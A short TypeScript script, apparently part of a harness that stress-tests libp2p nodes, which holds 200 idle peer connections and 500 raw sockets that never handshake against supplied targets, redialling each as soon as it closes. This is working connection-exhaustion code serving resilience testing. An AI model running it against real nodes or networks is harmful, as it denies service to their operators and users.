/** Keeps 200 connections of strangers open and says nothing on them, and opens 500 sockets beside them that never shake hands. */

import { createConnection } from 'node:net'
import { multiaddr } from '@multiformats/multiaddr'
import { readTargets, tell } from '../attack.ts'
import { rawNode } from '../raw-node.ts'

const CONNECTIONS = 200
const SOCKETS = 500

/** Before one that was closed is opened anew. */
const AGAIN_MS = 2_000

const connect = readTargets()
const nodes = await Promise.all(Array.from({ length: CONNECTIONS }, () => rawNode()))
for (const [index, node] of nodes.entries()) keepDialling(node, connect[index % connect.length])
for (let each = 0; each < SOCKETS; each++) keepSocket(connect[each % connect.length])
tell('ready')

/** At once, and again as soon as it has ended. */
function keepSocket(address: string): void {
  const [, , host, , port] = address.split('/')
  const socket = createConnection(Number(port), host)
  socket.on('error', () => {})
  socket.on('connect', () => tell('socket'))
  socket.on('close', () => setTimeout(() => keepSocket(address), AGAIN_MS))
}

function keepDialling(node: (typeof nodes)[number], address: string): void {
  const again = () => void setTimeout(() => keepDialling(node, address), AGAIN_MS)
  node
    .dial(multiaddr(address), { signal: AbortSignal.timeout(5_000) })
    .then(connection => {
      tell('connection')
      connection.addEventListener('close', again)
    })
    .catch(again)
}
